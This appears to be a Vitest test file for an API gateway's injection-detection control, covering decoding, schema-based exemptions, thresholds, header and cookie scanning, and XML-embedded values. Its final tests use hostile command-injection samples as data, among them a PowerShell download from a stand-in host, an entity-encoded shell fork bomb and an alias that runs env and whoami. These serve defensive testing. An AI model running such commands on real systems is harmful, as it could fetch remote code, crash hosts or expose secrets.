import { describe, expect, it } from 'vitest';
import { validateConfig } from '../../config/load.js';
import type { RequestContext } from '../../core/context.js';
import type { Verdict } from '../../core/verdict.js';
import { INJECTION_DETECTORS } from '../../detect/injection.js';
import type { Detector } from '../../detect/types.js';
import { compileSpec, type CompiledOperation } from '../../openapi/compile.js';
import type { JsonObject } from '../../openapi/load.js';
import { injectionControl } from './index.js';

/** A stand-in detector: "attack" is anything containing EVIL (case-sensitive, after decoding); sure of it when `!` or `.` follows. */
const fake: Detector = { id: 'fake', detect: (v) => (v.includes('EVIL') ? { detector: 'fake', confidence: /EVIL[!.]/.test(v) ? 0.9 : 0.3, fragment: 'EVIL', reason: 'test' } : undefined) };

const doc = {
  openapi: '3.1.0', info: { title: 't', version: '1' },
  paths: {
    '/items/{id}': {
      get: {
        operationId: 'getItem',
        parameters: [{ name: 'id', in: 'path', required: true, schema: { type: 'string' } }, { name: 'n', in: 'query', schema: { type: 'integer' } }, { name: 'q', in: 'query', schema: { type: 'string' } }],
        responses: { 200: { description: 'ok' } },
      },
    },
    '/items': {
      post: {
        operationId: 'createItem',
        requestBody: { content: { 'application/json': { schema: { $ref: '#/components/schemas/Item' } } } },
        responses: { 201: { description: 'ok' } },
      },
    },
  },
  components: {
    schemas: {
      Item: {
        type: 'object', additionalProperties: false,
        properties: {
          kind: { type: 'string', enum: ['a', 'b'] }, id: { type: 'string', format: 'uuid' }, owner: { type: 'string', format: 'email' },
          note: { type: 'string' }, tags: { type: 'array', items: { type: 'string' } }, meta: { type: 'object', additionalProperties: { type: 'string' } },
          mixed: { anyOf: [{ type: 'string', format: 'uuid' }, { type: 'integer' }] },
        },
      },
    },
  },
} as unknown as JsonObject;
const [op, postOp] = compileSpec({ file: 'inline.yaml', version: '3.1', doc }, { upstream: 'u', rejectUndeclared: false }).operations as [CompiledOperation, CompiledOperation];

interface Parts {
  params?: Record<string, string>; query?: [string, string[]][]; body?: unknown; validated?: RequestContext['validated']; post?: boolean;
  headers?: Record<string, string>; consumed?: string[];
}

async function run(parts: Parts, controls: Record<string, unknown> = {}, detectors: Detector[] = [fake]): Promise<Verdict> {
  const config = validateConfig({ upstreams: [{ url: 'http://127.0.0.1:1', spec: 'x.yaml' }], controls }, { baseDir: '/' });
  const ctx: RequestContext = {
    id: 'r', receivedAt: 0, method: 'GET', path: '/', rawQuery: null, query: parts.query ? new Map(parts.query) : undefined, headers: parts.headers ?? {}, clientIp: '127.0.0.1',
    route: { upstream: 'u', item: undefined, operation: parts.post ? postOp : op, rawParams: parts.params ?? {} },
    principal: { id: 'ip:127.0.0.1', kind: 'anonymous', roles: [], scopes: [] },
    body: parts.body === undefined ? undefined : { bytes: Buffer.alloc(0), mediaType: 'application/json', value: parts.body, decoded: true },
    flagged: [], modified: [],
  };
  if (parts.validated) ctx.validated = parts.validated;
  if (parts.consumed) ctx.consumedHeaders = parts.consumed;
  const control = await injectionControl(detectors).create({ config });
  return control.evaluate(ctx, 'requestBody');
}

describe('injection control', () => {
  it('shows detectors path values, query keys and values, body leaves and member names, and names where', async () => {
    expect(await run({ params: { id: 'EVIL!' } })).toMatchObject({ kind: 'block', ruleId: 'injection/fake', evidence: { location: 'path.id' } });
    expect(await run({ query: [['q', ['EVIL!']]] })).toMatchObject({ evidence: { location: 'query.q' } });
    expect(await run({ query: [['EVIL!', ['x']]] })).toMatchObject({ evidence: { location: 'query-key' } });
    expect(await run({ body: { a: [{ b: 'EVIL!' }] } })).toMatchObject({ evidence: { location: 'body/a/0/b' } });
    expect(await run({ body: { 'EVIL!': 1 } })).toMatchObject({ evidence: { location: 'body-key/' } });
    expect(await run({ body: { a: 'fine', n: 3 } })).toEqual({ kind: 'pass' });
  });

  it('decodes before detecting (double URL encoding, entities)', async () => {
    expect((await run({ query: [['q', ['%2545VIL!']]] })).kind).toBe('block');
    expect((await run({ body: { c: '&#69;VIL!' } })).kind).toBe('block');
  });

  it('skips parameters the contract types as integer, number or boolean, once validation has passed them', async () => {
    expect(await run({ query: [['n', ['EVIL!']]], validated: { params: true } })).toEqual({ kind: 'pass' });
    // Validation off or monitoring: the type is a claim, not a fact.
    expect((await run({ query: [['n', ['EVIL!']]] })).kind).toBe('block');
    expect((await run({ query: [['q', ['EVIL!']]], validated: { params: true } })).kind).toBe('block');
  });

  it('skips body leaves and member names a validated body schema pins (enum, safe formats, closed objects)', async () => {
    const validated = { params: true, bodyMedia: 'application/json' };
    const pinned = { kind: 'EVIL!', id: 'EVIL!', owner: 'EVIL.ops@example.com' };
    expect(await run({ post: true, body: pinned, validated })).toEqual({ kind: 'pass' });
    // Without the proof that the body validated, everything is scanned.
    expect(await run({ post: true, body: pinned })).toMatchObject({ kind: 'block', evidence: { location: 'body/kind' } });
    expect(await run({ post: true, body: { 'EVIL!': 1 } })).toMatchObject({ evidence: { location: 'body-key/' } });
    // Free text, array items, open maps (their names and values) and unmodelled composition stay scanned.
    expect(await run({ post: true, body: { note: 'EVIL!' }, validated })).toMatchObject({ evidence: { location: 'body/note' } });
    expect(await run({ post: true, body: { tags: ['x', 'EVIL!'] }, validated })).toMatchObject({ evidence: { location: 'body/tags/1' } });
    expect(await run({ post: true, body: { meta: { 'EVIL!': 'x' } }, validated })).toMatchObject({ evidence: { location: 'body-key/meta' } });
    expect(await run({ post: true, body: { meta: { k: 'EVIL!' } }, validated })).toMatchObject({ evidence: { location: 'body/meta/k' } });
    expect(await run({ post: true, body: { mixed: 'EVIL!' }, validated })).toMatchObject({ evidence: { location: 'body/mixed' } });
    // An e-mail address is exempt only in its plain form: quotes and pipes are legal in a local part, and payloads hide there.
    expect(await run({ post: true, body: { owner: "EVIL!'--@example.com" }, validated })).toMatchObject({ evidence: { location: 'body/owner' } });
    expect(await run({ post: true, body: { owner: 'EVIL.ops@example.com' }, validated })).toEqual({ kind: 'pass' });
    expect((await run({ post: true, body: { owner: 'EVIL.ops@example.com' } })).kind).toBe('block');
  });

  it('honours the threshold and exclusions by detector, operation and location', async () => {
    expect(await run({ query: [['q', ['EVIL']]] })).toEqual({ kind: 'pass' });
    expect((await run({ query: [['q', ['EVIL']]] }, { injection: { threshold: 0.2 } })).kind).toBe('block');
    expect(await run({ query: [['q', ['EVIL!']]] }, { injection: { exclude: [{ detector: 'fake', operation: 'getItem', location: 'query.q' }] } })).toEqual({ kind: 'pass' });
    expect((await run({ query: [['q', ['EVIL!']]] }, { injection: { exclude: [{ operation: 'otherOp' }] } })).kind).toBe('block');
  });

  it('runs a scoped detector only on the inputs it applies to, and only above its own least confidence', async () => {
    const scoped: Detector = { ...fake, id: 'scoped', appliesTo: (kind, name) => kind === 'query' && name === 'next', minConfidence: 0.95 };
    const sure: Detector = { ...scoped, minConfidence: 0.8 };
    expect((await run({ query: [['next', ['EVIL!']]] }, {}, [sure])).kind).toBe('block');
    expect(await run({ query: [['q', ['EVIL!']]] }, {}, [sure])).toEqual({ kind: 'pass' });
    expect(await run({ body: { next: 'EVIL!' } }, {}, [sure])).toEqual({ kind: 'pass' });
    // 0.9 is above the control's threshold but below this detector's own floor.
    expect(await run({ query: [['next', ['EVIL!']]] }, {}, [scoped])).toEqual({ kind: 'pass' });
  });

  it('shows detectors free-text headers and cookie names and values, never credentials or negotiated headers', async () => {
    expect(await run({ headers: { 'user-agent': 'EVIL!' } })).toMatchObject({ evidence: { location: 'header.user-agent' } });
    expect(await run({ headers: { 'x-api-version': 'EVIL!' } })).toMatchObject({ evidence: { location: 'header.x-api-version' } });
    expect(await run({ headers: { cookie: 'theme=EVIL%21; lang=en' } })).toMatchObject({ evidence: { location: 'cookie.theme' } });
    expect(await run({ headers: { cookie: 'EVIL!=1' } })).toMatchObject({ evidence: { location: 'cookie-key' } });
    for (const [name, value] of [['authorization', 'Bearer EVIL!'], ['accept', 'EVIL!'], ['content-type', 'EVIL!'], ['sec-fetch-mode', 'EVIL!']] as const) {
      const headers = { [name]: value };
      expect(await run({ headers })).toEqual({ kind: 'pass' });
    }
    // An API-key header the gateway checked is a credential too.
    expect(await run({ headers: { 'x-key': 'EVIL!' }, consumed: ['x-key'] })).toEqual({ kind: 'pass' });
  });

  it('counts findings a detector marks with a higher paranoia level only at that level', async () => {
    const cautious: Detector = { id: 'cautious', detect: (v) => (v.includes('odd') ? { detector: 'cautious', confidence: 0.9, fragment: 'odd', reason: 'test', paranoia: 3 } : undefined) };
    expect(await run({ query: [['q', ['odd']]] }, {}, [cautious])).toEqual({ kind: 'pass' });
    expect(await run({ query: [['q', ['odd']]] }, { injection: { paranoia: 2 } }, [cautious])).toEqual({ kind: 'pass' });
    expect((await run({ query: [['q', ['odd']]] }, { injection: { paranoia: 3 } }, [cautious])).kind).toBe('block');
  });

  it('with anomalyThreshold, adds up the findings of the request and refuses on the sum, naming them', async () => {
    // Two 0.6 findings (3 points each) in two inputs: each alone passes a threshold of 5, together they refuse.
    const weak: Detector = { id: 'weak', detect: (v) => (v.includes('meh') ? { detector: 'weak', confidence: 0.6, fragment: 'meh', reason: 'test' } : undefined) };
    const scoring = { injection: { anomalyThreshold: 5 } };
    expect(await run({ query: [['a', ['meh']]] }, scoring, [weak])).toEqual({ kind: 'pass' });
    const v = await run({ query: [['a', ['meh']], ['b', ['%6deh']]] }, scoring, [weak]);
    expect(v).toMatchObject({ kind: 'block', ruleId: 'injection/weak', evidence: { score: 6, threshold: 5, findings: ['weak query.a test 0.6', 'weak query.b test 0.6'] } });
    // The decoded readings of one value are one finding, not two.
    expect(await run({ query: [['a', ['%256deh']]] }, scoring, [weak])).toEqual({ kind: 'pass' });
    // A critical finding (0.9: 5 points) refuses alone; without scoring the first finding decides as before.
    expect((await run({ query: [['q', ['EVIL!']]] }, scoring)).kind).toBe('block');
    expect((await run({ query: [['a', ['meh']]] }, {}, [weak])).kind).toBe('block');
  });
});

describe('injection control: an XML document carried in a value (the gateway\'s detectors)', () => {
  const xml = (attr: string, text = 'x'): string => `<?xml version="1.0"?><root><a probe="${attr}">${text}</a></root>`;
  const detect = async (value: string, where: 'query' | 'body' = 'body'): Promise<Verdict> =>
    run(where === 'query' ? { query: [['q', [value]]] } : { body: { comment: value } }, {}, [...INJECTION_DETECTORS]);

  it('judges its attribute values and text as values of their own: shapes that count only at the start of a value', async () => {
    // Each is refused alone; inside the document only its own reading starts with it.
    for (const attack of [';ps', '~+', '!-1!-2', 'Invoke-WebRequest http://example.com/x.ps1']) {
      expect((await detect(attack)).kind, attack).toBe('block');
      expect(await detect(xml(attack)), attack).toMatchObject({ kind: 'block', ruleId: 'injection/cmdi', evidence: { location: 'body/comment/root/a/@probe' } });
    }
    expect(await detect(xml('x', 'while(!false)'), 'query')).toMatchObject({ ruleId: 'injection/code', evidence: { location: 'query.q/root/a' } });
  });

  it('reads the XML entities the upstream\'s parser resolves', async () => {
    expect(await detect(xml(':()&#x7B; :|:&amp; &#x7D;;:'))).toMatchObject({ ruleId: 'injection/cmdi', evidence: { reason: 'shell-function' } });
    expect(await detect(xml('alias x=env&amp;x whoami'))).toMatchObject({ ruleId: 'injection/cmdi', evidence: { reason: 'shell-alias' } });
  });

  it('passes ordinary documents: SOAP, configuration, sitemaps, feeds, with ampersands, pipes, relative and Windows paths in them', async () => {
    for (const doc of [
      '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetPrice xmlns:m="https://www.example.com/prices"><m:Item>Tom &amp; Jerry</m:Item><m:Filter>a|b</m:Filter><m:Dir>cd ..</m:Dir></m:GetPrice></soap:Body></soap:Envelope>',
      '<?xml version="1.0" encoding="utf-8"?><configuration><appSettings><add key="ExportDir" value="D:\\Exports\\Monthly"/><add key="Title" value="Q3 report - sales &amp; returns"/></appSettings><note>Save it under C:\\Users\\bob\\Documents, then run the export</note></configuration>',
      '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://example.com/a?x=1&amp;y=2</loc><lastmod>2024-01-01</lastmod><changefreq>weekly</changefreq></url></urlset>',
      '<?xml version="1.0"?><feed version="2.0"><channel><headline>News &amp; views; id est, the week</headline><description>Tom &amp; Jerry | a|b</description><item><guid isPermaLink="false">id</guid><pubDate>Mon, 01 Jan 2024 00:00:00 GMT</pubDate></item></channel></feed>',
      xml('ls', 'cat & dog'),
    ]) {
      expect(await detect(doc), doc.slice(0, 60)).toEqual({ kind: 'pass' });
      expect(await detect(doc, 'query'), doc.slice(0, 60)).toEqual({ kind: 'pass' });
    }
  });
});
